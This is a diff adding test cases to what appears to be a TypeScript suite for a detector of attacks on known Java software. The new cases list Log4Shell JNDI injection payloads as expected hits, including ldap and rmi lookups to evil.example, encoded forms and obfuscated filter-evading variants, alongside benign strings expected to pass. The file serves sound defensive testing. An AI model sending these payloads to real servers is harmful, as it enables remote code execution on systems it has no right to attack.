@@ -1,4 +1,4 @@
-import { type Cases, form, get, header, json, post, query, upload, xml } from '../../testing.ts';
+import { type Cases, agent, form, get, header, json, post, query, upload, xml } from '../../testing.ts';
 
 export const knownSoftwareJavaCases: Readonly<Record<string, Cases>> = {
   '100001': {
@@ -133,5 +133,30 @@ export const knownSoftwareJavaCases: Readonly<Record<string, Cases>> = {
       upload('x.jpg', 'AT&T store'),
       post('/users/password', 'application/x-www-form-urlencoded', 'user[email]=a@b.example'),
     ],
+  },
+  '100514': {
+    hits: [
+      agent('${jndi:ldap://evil.example/a}'),
+      query('${jndi:rmi://evil.example/a}'),
+      header('x-api-version', '${JNDI:dns://x}'),
+      get('/$%7Bjndi:ldap://x%7D'),
+      form('${jndi:ldap://127.0.0.1#evil.example/a}'),
+      { ...json({}), body: '{"u":"\\u0024\\u007bjndi:ldap://x}"}' },
+    ],
+    misses: [query('jndi: ldap tutorial'), agent('${name}'), json({ t: '${jndiName}' })],
+  },
+  '100515': {
+    hits: [
+      agent('${${lower:j}ndi:${lower:l}dap://evil.example/a}'),
+      query('${${::-j}${::-n}${::-d}${::-i}:rmi://x}'),
+      header('referer', '${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}'),
+      form('${j${k8s:k5:-ND}i:ldap://x}'),
+      header('x-forwarded-for', '${${upper:${lower:j}}ndi:ldap://x}'),
+    ],
+    misses: [json({ compose: '${PORT:-${DEFAULT_PORT}}' }), json({ js: '`${a ? `${b}` : 1}`' })],
+  },
+  '100516': {
+    hits: [agent('%24%7Bjndi:ldap://x%7D'), header('x-id', 'jndi:ldap://evil.example/')],
+    misses: [header('referer', 'https://example.com/?p=%24%7Bprice%7D'), agent('jndi-client/1.0')],
   },
 };
